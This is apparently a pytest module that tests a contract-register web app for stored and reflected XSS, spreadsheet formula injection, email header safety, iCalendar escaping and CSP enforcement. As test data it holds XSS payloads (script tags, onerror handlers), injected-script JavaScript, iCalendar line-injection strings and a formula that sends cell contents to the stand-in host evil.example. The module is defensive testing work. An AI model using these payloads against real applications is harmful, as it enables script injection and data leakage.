"""Stored XSS: markup in every free-text column comes back escaped on every page (and
what a GET or POST form sends, in form errors and flash messages), in the reminder
e-mails and in the exports; JSON stays valid and as stored; a spreadsheet cell never
starts a formula; the calendar feed escapes text the iCalendar way; and in Chromium no
stored script runs and the CSP stops an inline script that did reach the DOM.

The text columns are read from the SQLAlchemy metadata, so a new column is covered the day
it is added. Each stored value starts with a marker naming its column (``xss<n>r<row>_``)
right before the markup, so an unescaped value shows as ``xss<n>r<row>_<`` in a page and
the failure names the column.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from dataclasses import dataclass, field
from datetime import date, timedelta
from email import message_from_bytes, policy

import pytest
import sqlalchemy as sa
from icalendar import Calendar
from openpyxl import load_workbook
from sqlalchemy import cast, literal, select

from contracts.audit import services as audit
from contracts.auth.models import Role, User
from contracts.db import Base, Session, utcnow
from contracts.exchange.models import JobStatus
from contracts.integrity import declarations
from contracts.integrity.flags import RedFlag
from contracts.register import services as register_services
from contracts.register.models import Contract
from followup import services as followup_services
from followup.models import Activity, ActivityStatus, Deviation
from jobs import reminders
from jobs import settings as notify_settings
from jobs.models import JobRun, OutboxMessage
from jobs.smtp import build_message
from tests import factories
from tests.conftest import TODAY
from tests.test_access import World, is_api, make_world, valid_form_data

# --- the payloads ---------------------------------------------------------------------

PAYLOAD = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
SHORT_PAYLOADS = ("<script>alert(1)</script>", "<i>\"'")
MARKER = re.compile(r"xss(\d+)r\d+_")
RAW = re.compile(r"xss(\d+)r\d+_<")  # the markup right after its marker, unescaped
ESCAPED = re.compile(r"xss(\d+)r\d+_&lt;")
MIN_LENGTH = 20  # shorter columns (organisation numbers, CPV codes) hold no markup
MARKER_ROOM = len("xss999r9999999_")

# Columns that hold no text a person wrote: identifiers, hashes, tokens and the values
# the app derives itself. Everything else of type String/Text (not Enum) is filled.
NOT_FREE_TEXT = re.compile(r"(^|_)(hash|token|prefix|key|password|locale|message_id)($|_)")
DERIVED = {
    ("contracts", "search_text"),  # rebuilt from the other columns on every save
    ("red_flags", "rule"),  # the code of the rule that raised the flag
    ("method_templates", "family"),  # the stable key of a template's versions
    ("reminders", "entity_type"),  # table names
    ("reminder_snoozes", "entity_type"),
}
# Append-only and hash-chained (a trigger refuses UPDATE): an event is appended instead.
APPEND_ONLY = {"audit_events"}


def text_columns() -> list[sa.Column]:
    """Every free-text column of every table, in a stable order."""
    columns = []
    for table in Base.metadata.sorted_tables:
        if table.name in APPEND_ONLY:
            continue
        for column in table.columns:
            if not isinstance(column.type, sa.String) or isinstance(column.type, sa.Enum):
                continue
            if column.primary_key or NOT_FREE_TEXT.search(column.name):
                continue
            if (table.name, column.name) in DERIVED:
                continue
            if column.type.length is not None and column.type.length < MIN_LENGTH:
                continue
            columns.append(column)
    return sorted(columns, key=lambda c: (c.table.name, c.name))


def test_the_text_columns_are_found(app):
    """The derivation from the metadata finds the columns people write (not vacuous)."""
    found = {column_name(c) for c in text_columns()}
    assert len(found) >= 60
    assert {
        "contracts.title",
        "contracts.notes",
        "suppliers.name",
        "users.name",
        "activities.evidence_url",
        "gain_entries.correction_reason",
        "declarations.measures",
        "red_flags.acknowledgement",
        "outbox.body_html",
    } <= found
    assert not {"users.password_hash", "api_tokens.token_hash", "contracts.search_text"} & found


def column_name(column: sa.Column) -> str:
    return f"{column.table.name}.{column.name}"


def html_head(number: int) -> str:
    """What a stored value starts with: the marker (the row id follows it)."""
    return f"xss{number}r"


def html_tail(length: int | None, payloads=(PAYLOAD, *SHORT_PAYLOADS)) -> str:
    """What follows the row id: the longest payload that fits the column."""
    return "_" + next(p for p in payloads if length is None or len(p) + MARKER_ROOM <= length)


def fill(columns: list[sa.Column], head=html_head, tail=html_tail) -> dict[int, str]:
    """Overwrite every row's value of each column with head + row id + tail (the row id
    keeps unique columns unique); return the column names by marker number."""
    names = {}
    for number, column in enumerate(columns, start=1):
        table = column.table
        key = table.c.id if "id" in table.c else next(iter(table.primary_key.columns))
        value = (
            literal(head(number), sa.String)
            + cast(key, sa.String)
            + literal(tail(column.type.length), sa.String)
        )
        Session.execute(sa.update(table).values({column.name: value}))
        names[number] = column_name(column)
    Session.expire_all()
    return names


# --- the world ------------------------------------------------------------------------


@dataclass
class XssWorld:
    world: World
    admin: User
    owner: User
    calendar_token: str
    names: dict[int, str] = field(default_factory=dict)
    # More objects to show, by URL argument: the world's own are always shown.
    more: dict[str, list[int]] = field(default_factory=dict)


def build(head=html_head, tail=html_tail) -> XssWorld:
    """make_world() and then some (an amendment, done and skipped activities, a closed
    deviation, a declared conflict, an acknowledged flag, a job run, a calendar), every
    text column filled, and an audit event of payloads appended."""
    admin = factories.make_user(Role.ADMIN)
    owner = factories.make_user(Role.OWNER)
    world = make_world(owner)
    contract = Session.get(Contract, world.contract_id)
    register_services.add_amendment(contract, date(2026, 2, 1), "Ny pris", None, admin)
    activity = Session.get(Activity, world.activity_id)
    others = [a for a in activity.plan.activities if a.id != activity.id]
    followup_services.complete_activity(
        others[0], status=ActivityStatus.DONE, user=owner, notes="n", evidence="e",
        evidence_url="https://example.org/bevis",
    )  # fmt: skip
    followup_services.complete_activity(
        others[1], status=ActivityStatus.SKIPPED, user=owner, skip_reason="s"
    )
    deviation = Session.get(Deviation, world.deviation_id)
    followup_services.close_deviation(deviation, date(2026, 3, 1), "Utbedret")
    # A terminated contract of the owner's, so the reason shows; another that ends soon,
    # so the reminder job has something to say about it.
    terminated = factories.make_contract(owner_id=owner.id)
    register_services.terminate_contract(terminated, date(2026, 6, 30), "Mislighold")
    ending = factories.make_contract(
        owner_id=owner.id, start_date=date(2024, 1, 1), end_date=TODAY + timedelta(days=20)
    )
    failed_job = factories.make_import_job(status=JobStatus.FAILED, error="feil", sheet="Ark1")
    conflict = declarations.declare(contract, admin, date(2026, 3, 1), "Inhabil", "Fratrer")
    declarations.review(conflict, admin, accepted=False, comment="Nytt skjema")
    flag = Session.get(RedFlag, world.flag_id)
    flag.acknowledgement, flag.acknowledged_by_id, flag.acknowledged_at = "ok", admin.id, utcnow()
    Session.add(JobRun(name="reminders", last_error="feil", last_error_at=utcnow()))
    factories.make_api_token(admin)
    calendar_token = notify_settings.create_calendar_token(owner)
    Session.flush()

    names = fill(text_columns(), head, tail)
    # The audit trail: an event whose every text is a payload, as a logged-in user with
    # such a name and address would leave it.
    audited = {
        900: ("audit_events.actor_label", 254),
        901: ("audit_events.ip", 45),
        902: ("audit_events.summary", 300),
        903: ("audit_events.before", None),
        904: ("audit_events.after", None),
    }
    text = {n: head(n) + "1" + tail(length) for n, (_name, length) in audited.items()}
    with audit.acting_as(admin.id, text[900], text[901]):
        audit.record(
            "update",
            entity_type="contracts",
            entity_id=contract.id,
            contract_id=contract.id,
            summary=text[902],
            before={"title": text[903]},
            after={"title": text[904]},
        )
    names |= {n: name for n, (name, _length) in audited.items()}
    Session.commit()
    more = {
        "contract_id": [activity.contract_id, terminated.id, ending.id],
        "activity_id": [others[0].id, others[1].id],
        "category_id": [contract.category_id],
        "job_id": [failed_job.id],
    }
    return XssWorld(world, admin, owner, calendar_token, names, more)


def _client(app, user: User):
    client = app.test_client()
    factories.log_in(client, user)
    Session.commit()
    return client


def _get_rules(app):
    return sorted(
        (r for r in app.url_map.iter_rules() if "GET" in r.methods and r.endpoint != "static"),
        key=lambda r: r.endpoint,
    )


def _paths(app, rule, xss: XssWorld) -> list[str]:
    """The route for the world's objects and, for a route of one object, for the others."""
    values = xss.world.arguments(rule.endpoint, set(rule.arguments))
    if rule.endpoint == "notify.calendar_feed":
        values["token"] = xss.calendar_token
    variants = [values]
    if "fmt" in values:
        variants.append(values | {"fmt": "xlsx"})
    elif len(values) == 1:
        (name,) = values
        name = "category_id" if rule.endpoint.startswith("parties.category_") else name
        variants += [{next(iter(values)): other} for other in xss.more.get(name, [])]
    adapter = app.url_map.bind("localhost")
    return [adapter.build(rule.endpoint, v) for v in variants]


def raw_markup(text: str, names: dict[int, str]) -> list[str]:
    """The columns whose markup stands unescaped in the text."""
    found = {names.get(int(n), f"#{n}") for n in RAW.findall(text)}
    for bare in ("<script>alert(1)", "<img src=x onerror"):
        if bare in text:
            found.add(f"bare {bare!r}")
    return sorted(found)


# Columns every walk must find shown (escaped) somewhere, so that the walk is not vacuous.
SHOWN_TO_ADMIN = {
    "contracts.title",
    "contracts.reference",
    "contracts.description",
    "contracts.notes",
    "suppliers.name",
    "units.name",
    "categories.name",
    "users.name",
    "users.email",
    "activities.title",
    "deviations.description",
    "amendments.description",
    "gain_plans.description",
    "declarations.conflict_description",
    "red_flags.acknowledgement",
    "method_templates.name",
    "template_rules.title",
    "outbox.subject",
    "outbox.body_text",
    "thresholds.source",
    "audit_events.summary",
    "audit_events.actor_label",
}


@pytest.mark.parametrize("who", ["admin", "owner"])
def test_stored_markup_is_escaped_on_every_page(app, who, monkeypatch):
    """Every GET route with the world's objects: HTML escaped, JSON valid and as stored."""
    xss = build()
    monkeypatch.setitem(app.config, "OCDS_PUBLIC", True)
    user = xss.admin if who == "admin" else xss.owner
    client = _client(app, user)
    bearer = {"Authorization": f"Bearer {factories.make_api_token(user)}"}
    Session.commit()
    failures, shown, strings, pages, documents = [], set(), [], 0, 0
    for rule in _get_rules(app):
        for path in _paths(app, rule, xss):
            response = client.get(path, headers=bearer if path.startswith("/api/") else {})
            body = response.get_data()  # streamed bodies too
            if response.is_json:
                documents += response.status_code == 200
                problems, found = json_problems(body)
                failures += [f"{rule.endpoint} {path}: {p!r}" for p in problems]
                strings += found
            if response.mimetype != "text/html":
                continue
            text = body.decode()
            pages += response.status_code == 200
            if raw := raw_markup(text, xss.names):
                failures.append(f"{rule.endpoint} {path}: {raw}")
            shown |= {xss.names.get(int(n), n) for n in ESCAPED.findall(text)}
    assert failures == []
    assert pages >= (60 if who == "admin" else 20)
    assert documents >= 10
    title = Session.get(Contract, xss.world.contract_id).title
    assert title.endswith(PAYLOAD)
    assert strings.count(title) >= 3  # the API, the OCDS download and the public feed
    if who == "admin":
        assert SHOWN_TO_ADMIN - shown == set()
    else:
        assert {"contracts.title", "activities.title", "users.name"} - shown == set()


# --- reflected: what a GET form sends comes back escaped ----------------------------------

GET_FORM = re.compile(r"<form\b(?![^>]*method=\"post\")[^>]*>(.*?)</form>", re.S | re.I)
FIELD_NAME = re.compile(r"<(?:input|select|textarea)\b[^>]*\bname=\"([^\"]+)\"", re.I)
REFLECTED = "xss999r1_" + PAYLOAD


def test_get_form_values_come_back_escaped(app):
    """Each page's search and filter forms (GET), every field set to a payload."""
    xss = build()
    names = xss.names | {999: "query string"}
    client = _client(app, xss.admin)
    failures, tried = [], 0
    for rule in _get_rules(app):
        path = _paths(app, rule, xss)[0]
        response = client.get(path)
        body = response.get_data()
        if response.mimetype != "text/html" or response.status_code != 200:
            continue
        fields = {n for form in GET_FORM.findall(body.decode()) for n in FIELD_NAME.findall(form)}
        query = dict.fromkeys(fields | {"q", "next", "page"}, REFLECTED)
        response = client.get(path, query_string=query)
        text = response.get_data(as_text=True)
        tried += bool(fields)
        if raw := raw_markup(text, names):
            failures.append(f"{rule.endpoint} {sorted(fields)}: {response.status_code} {raw}")
    assert failures == []
    assert tried >= 5  # the contract list, the trail, the flags, the gains report, ...


# --- submitted: what a form sends comes back escaped (form errors, flash messages) -------

SUBMITTED = "xss998r1_" + PAYLOAD
CHOICE_OR_NUMBER = re.compile(r"[a-z_]+|[\d\s.,:-]+")


def test_submitted_markup_comes_back_escaped(app):
    """Every form of the url_map posted with its free-text fields (anything but a choice,
    a number or a date) set to a payload, the redirect followed: the form errors and the
    flash messages that repeat it are escaped."""
    xss = build()
    names = xss.names | {998: "submitted form field"}
    client = _client(app, xss.admin)
    rules = sorted(
        (r for r in app.url_map.iter_rules() if "POST" in r.methods and not is_api(r.endpoint)),
        key=lambda r: (r.endpoint.endswith("_delete"), r.endpoint),
    )
    failures, reflected = [], 0
    for rule in rules:
        if rule.endpoint == "auth.logout":
            continue
        data = {
            key: value if CHOICE_OR_NUMBER.fullmatch(value) else SUBMITTED
            for key, value in valid_form_data(rule.endpoint, xss.world).items()
        }
        path = _paths(app, rule, xss)[0]
        response = client.post(path, data=data, follow_redirects=True)
        text = response.get_data(as_text=True)
        reflected += "xss998r1_&lt;" in text
        if raw := raw_markup(text, names):
            failures.append(f"{rule.endpoint} {response.status_code}: {raw}")
    assert failures == []
    assert reflected >= 10


# --- e-mail -----------------------------------------------------------------------------


def test_reminder_emails_escape_stored_markup(app):
    xss = build()
    before = Session.scalar(select(sa.func.max(OutboxMessage.id))) or 0
    reminders.run(TODAY)
    messages = Session.scalars(select(OutboxMessage).where(OutboxMessage.id > before)).all()
    assert messages, "the reminder job queued nothing"
    shown = set()
    for message in messages:
        assert raw_markup(message.body_html, xss.names) == [], message.key
        shown |= {xss.names[int(n)] for n in ESCAPED.findall(message.body_html)}
        # The subject is one line whatever the data holds; the message has only the
        # headers the app sets, and the text part is plain text.
        assert not set(message.subject) & {"\r", "\n"}
        email, _recipient = build_message(
            mail_from="Kontraktsregisteret <noreply@test.kommune.no>",
            to_address="eier@test.kommune.no",
            subject=message.subject,
            body_text=message.body_text,
            body_html=message.body_html,
            message_id=message.message_id,
            date=utcnow(),
        )
        parsed = message_from_bytes(email.as_bytes(), policy=policy.default)
        assert sorted(parsed.keys()) == sorted(HEADERS)
        assert parsed["Subject"] == message.subject
        assert parsed.get_body(("plain",)).get_content_type() == "text/plain"
        html = parsed.get_body(("html",)).get_content()
        assert raw_markup(html, xss.names) == []
    assert {"users.name", "contracts.title", "contracts.reference"} - shown == set()


HEADERS = [
    "From",
    "To",
    "Subject",
    "Date",
    "Message-ID",
    "Auto-Submitted",
    "MIME-Version",
    "Content-Type",
]


# --- exports: no formulas ---------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[\d\s\u00a0.,]+")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def formula_head(number: int) -> str:
    """A value a spreadsheet would run: each column gets one of the starts in turn."""
    return FORMULA_STARTS[number % len(FORMULA_STARTS)] + f"xss{number}r"


def formula_tail(length: int | None) -> str:
    tail = '_+HYPERLINK("https://evil.example/?"&A1,"Klikk")'
    return tail if length is None or len(tail) + MARKER_ROOM <= length else "_+1"


def _sheet_cells(response) -> list[tuple[str, object, str | None]]:
    """(file, value, openpyxl data type or None for CSV) of every cell of an export."""
    body = response.get_data()
    files = {"export": body}
    if response.mimetype == "application/zip":
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
    cells = []
    for name, data in files.items():
        if data[:2] == b"PK":  # an XLSX workbook
            workbook = load_workbook(io.BytesIO(data))
            for sheet in workbook.worksheets:
                for row in sheet.iter_rows():
                    cells += [(name, cell.value, cell.data_type) for cell in row]
        elif not name.endswith(".json"):
            rows = csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";")
            cells += [(name, value, None) for row in rows for value in row]
    return cells


def test_exports_neutralise_formulas_in_every_text_column(app):
    xss = build(formula_head, formula_tail)
    client = _client(app, xss.admin)
    failures, seen, texts, exports = [], set(), set(), 0
    for rule in _get_rules(app):
        for path in _paths(app, rule, xss):
            response = client.get(path)
            if response.mimetype not in {"text/csv", XLSX, "application/zip"}:
                response.get_data()
                continue
            exports += 1
            for name, value, data_type in _sheet_cells(response):
                if data_type == "f":
                    failures.append(f"{path} {name}: a formula {value!r}")
                if not isinstance(value, str):
                    continue
                if value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
                    failures.append(f"{path} {name}: {value[:40]!r}")
                if match := MARKER.search(value):
                    seen.add(xss.names[int(match.group(1))])
                    texts.add(value)
    assert failures == []
    # Made harmless, otherwise unchanged: text behind a leading apostrophe.
    title = Session.get(Contract, xss.world.contract_id).title
    assert title.startswith(FORMULA_STARTS) and "'" + title in texts
    assert exports >= 9  # contracts, flags, gains x 2 (each CSV and XLSX), the trail ZIP
    assert {
        "contracts.title",
        "contracts.reference",
        "contracts.notes",
        "suppliers.name",
        "units.name",
        "categories.name",
        "users.name",
        "red_flags.acknowledgement",
        "audit_events.summary",
        "audit_events.actor_label",
    } - seen == set()


# --- JSON: valid, and the text as stored (checked in the page walk above) ------------------


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in _strings(item)]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


def json_problems(body: bytes) -> tuple[list[str], list[str]]:
    """(problems, strings) of a JSON body: it must parse, and every stored value in it
    must be as stored (markup after its marker, not HTML-escaped)."""
    try:
        found = _strings(json.loads(body))
    except ValueError as error:
        return [str(error)], []
    problems = [
        text[match.start() : match.end() + 12]
        for text in found
        for match in MARKER.finditer(text)
        if not text[match.end() :].startswith("<")
    ]
    return problems, found


# --- the calendar feed ------------------------------------------------------------------

ICS_PAYLOAD = "a,b;c\\d\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:falsk"
ICS_ESCAPED = "a\\,b\\;c\\\\d\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:falsk"
CONTENT_LINE = re.compile(r"[A-Za-z0-9-]+(;[^:]*)?:.*")


def ics_tail(length: int | None) -> str:
    tail = "_" + ICS_PAYLOAD
    return tail if length is None or len(tail) + MARKER_ROOM <= length else "_a,b;c\\d\nX:y"


def test_calendar_feed_escapes_text_as_rfc_5545_says(app):
    xss = build(tail=ics_tail)
    raw = app.test_client().get(f"/calendar/{xss.calendar_token}.ics").get_data(as_text=True)
    assert raw.endswith("\r\n")
    # Unfold (RFC 5545 3.1): a line starting with a space continues the one before.
    lines = raw[:-2].replace("\r\n ", "").split("\r\n")
    assert all(CONTENT_LINE.fullmatch(line) for line in lines), [
        line for line in lines if not CONTENT_LINE.fullmatch(line)
    ]
    assert "SUMMARY:falsk" not in lines
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT")
    assert lines.count("BEGIN:VEVENT") == sum(line.startswith("UID:") for line in lines) >= 3
    summaries = [line for line in lines if line.startswith("SUMMARY:") and "xss" in line]
    assert summaries and all(ICS_ESCAPED in line for line in summaries)
    # The calendar's name holds the user's.
    names = [line for line in lines if line.startswith(("NAME:", "X-WR-CALNAME:"))]
    assert len(names) == 2 and all(ICS_ESCAPED in line for line in names)
    # Read back, the text is the stored text (line breaks as one \n).
    events = Calendar.from_ical(raw).walk("VEVENT")
    stored = ICS_PAYLOAD.replace("\r\n", "\n")
    assert all(stored in str(event["SUMMARY"]) for event in events)
    assert all(stored in str(event["DESCRIPTION"]) for event in events)


# --- in Chromium -----------------------------------------------------------------------

WATCH_CSP = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
    e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""

INJECT = """() => new Promise(resolve => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', e => seen.push(e.violatedDirective));
    window.__ran = [];
    const script = document.createElement('script');
    script.textContent = "window.__ran.push('script'); alert('script')";
    document.body.appendChild(script);
    const img = document.createElement('img');
    img.setAttribute('onerror', "window.__ran.push('onerror'); alert('onerror')");
    img.src = 'data:,not-an-image';
    document.body.appendChild(img);
    setTimeout(() => resolve({ran: window.__ran, seen: seen}), 500);
})"""


def _watch(page) -> tuple[list[str], list[str]]:
    dialogs, console = [], []

    def on_dialog(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("console", lambda message: console.append(message.text))
    return dialogs, console


def test_stored_markup_runs_no_script_in_chromium(page, live_server):
    from tests.test_browser import log_in

    xss = build()
    xss.admin.email = "xss.admin@test.kommune.no"  # to log in through the form
    outbox_id = Session.scalar(select(sa.func.min(OutboxMessage.id)))
    Session.commit()
    page.add_init_script(WATCH_CSP)
    dialogs, console = _watch(page)
    page.goto("/login")
    log_in(page, xss.admin)
    page.wait_for_url(re.compile(r"/$"))
    world = xss.world
    for path in (
        "/contracts",
        f"/contracts/{world.contract_id}",
        f"/followup/activities/{world.activity_id}",
        f"/contracts/{world.contract_id}/declarations",
        "/integrity/flags",
        "/audit/trail",
        f"/admin/outbox/{outbox_id}",  # the HTML body in a sandboxed frame
    ):
        page.goto(path)
        page.wait_for_load_state("load")
        assert dialogs == [], (path, dialogs, console)
        assert page.evaluate("window.__csp") == [], (path, console)
        assert page.evaluate("window.__ran") is None
    page.goto(f"/contracts/{world.contract_id}")
    assert "<script>alert(1)</script>" in page.locator("h1").inner_text()


@pytest.mark.parametrize("policy", ["app", "control: 'unsafe-inline'"])
def test_csp_blocks_an_injected_inline_script(page, live_server, monkeypatch, policy):
    """Markup that did reach the DOM still runs no inline script or handler. The control
    loosens the policy to show that the probe does notice a script that ran."""
    from contracts import web

    if policy != "app":
        loose = web.CSP.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")
        monkeypatch.setattr(web, "CSP", loose)
    dialogs, _console = _watch(page)
    page.goto("/login")
    result = page.evaluate(INJECT)
    if policy == "app":
        assert result["ran"] == [] and dialogs == []
        assert {"script-src-elem", "script-src-attr"} <= set(result["seen"])
    else:
        assert sorted(result["ran"]) == ["onerror", "script"]
        assert sorted(dialogs) == ["onerror", "script"]
